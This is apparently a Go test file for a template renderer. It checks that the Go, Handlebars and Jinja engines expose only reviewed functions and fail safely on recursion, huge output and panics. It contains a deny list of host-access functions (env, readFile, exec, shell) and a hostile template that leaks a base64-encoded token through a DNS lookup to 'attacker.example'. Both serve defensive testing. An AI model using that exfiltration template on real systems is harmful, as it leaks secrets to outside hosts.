package render

import (
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nikolalohinski/gonja/v2"
	"github.com/nikolalohinski/gonja/v2/builtins"
)

// functionNames lists, per engine, every function a template can call.
func functionNames() map[string][]string {
	var goNames, hbs, jinja []string
	for k := range baseFuncs() {
		goNames = append(goNames, k)
	}
	goNames = append(goNames, "include", "tpl") // added per template set
	for k := range handlebarsHelpers {
		hbs = append(hbs, k)
	}
	// gonja keeps its sets' maps unexported; reflection reads their keys.
	keys := func(set any, field string) []string {
		v := reflect.ValueOf(set).Elem().FieldByName(field)
		var out []string
		for _, k := range v.MapKeys() {
			out = append(out, k.String())
		}
		return out
	}
	for _, k := range keys(gonja.DefaultContext, "data") {
		jinja = append(jinja, "global "+k)
	}
	for _, k := range keys(builtins.Filters, "filters") {
		jinja = append(jinja, "filter "+k)
	}
	for _, k := range keys(builtins.Tests, "tests") {
		jinja = append(jinja, "test "+k)
	}
	out := map[string][]string{"go": goNames, "handlebars": hbs, "jinja": jinja}
	for k := range out {
		slices.Sort(out[k])
	}
	return out
}

// TestTemplateFunctions: the functions each engine offers are exactly the reviewed lists in
// testdata/functions-*.txt, so a dependency upgrade cannot slip in one that reads the host or
// the network (rewrite them with -update after reviewing the change); and the ones that do
// are absent.
func TestTemplateFunctions(t *testing.T) {
	for engine, names := range functionNames() {
		path := filepath.Join("testdata", "functions-"+engine+".txt")
		got := strings.Join(names, "\n") + "\n"
		if *update {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("%v (go test ./core/render -update writes it)", err)
		}
		if got != string(want) {
			t.Errorf("the %s engine's functions changed from %s; review them, then -update:\ngot:\n%s", engine, path, got)
		}
		for _, banned := range []string{"env", "expandenv", "getHostByName", "readFile", "exec", "shell"} {
			if slices.Contains(names, banned) {
				t.Errorf("the %s engine offers %s", engine, banned)
			}
		}
	}
}

// TestNoNetworkFromTemplates: a manifest that would send a value out through a DNS lookup is
// an error that names the file and line, at parse time, before anything runs.
func TestNoNetworkFromTemplates(t *testing.T) {
	_, err := Execute("go", []File{{Name: "m.yaml", Source: []byte("a: b\nc: {{ getHostByName (printf \"%s.attacker.example\" (.Values.token | b64enc)) }}\n")}},
		&Context{Values: map[string]any{"token": "s3cr3t"}})
	if err == nil || !strings.Contains(err.Error(), "m.yaml:2") || !strings.Contains(err.Error(), `"getHostByName" not defined`) {
		t.Fatalf("error %v", err)
	}
}

// TestGoTemplateBounds: a template that includes itself ends with an error naming where,
// not a stack overflow; one that writes past the output bound ends with an error too; both
// quickly, and the process carries on.
func TestGoTemplateBounds(t *testing.T) {
	start := time.Now()
	_, err := Execute("go", []File{
		{Name: "_h.tpl", Source: []byte(`{{ define "loop" }}{{ include "loop" . }}{{ end }}`)},
		{Name: "m.yaml", Source: []byte("a: b\nc: {{ include \"loop\" . }}\n")},
	}, &Context{Values: map[string]any{}})
	if err == nil || !strings.Contains(err.Error(), "_h.tpl:1") || !strings.Contains(err.Error(), "nested more than 1000 deep") {
		t.Errorf("self-include: %v", err)
	}
	_, err = Execute("go", []File{{Name: "big.yaml", Source: []byte(`a: {{ repeat 70000000 "x" }}`)}}, &Context{Values: map[string]any{}})
	if err == nil || !strings.Contains(err.Error(), "big.yaml") || !strings.Contains(err.Error(), "output passed 64 MiB") {
		t.Errorf("huge output: %v", err)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("took %s", d)
	}
}

// TestJinjaPanicIsAnError: an expression that makes the jinja engine panic is an error
// naming the file; the process goes on.
func TestJinjaPanicIsAnError(t *testing.T) {
	_, err := Execute("jinja", []File{{Name: "m.yaml", Source: []byte("a: {{ 1 % 0 }}\n")}}, &Context{Values: map[string]any{}})
	if err == nil || !strings.Contains(err.Error(), "m.yaml") {
		t.Fatalf("error %v", err)
	}
}
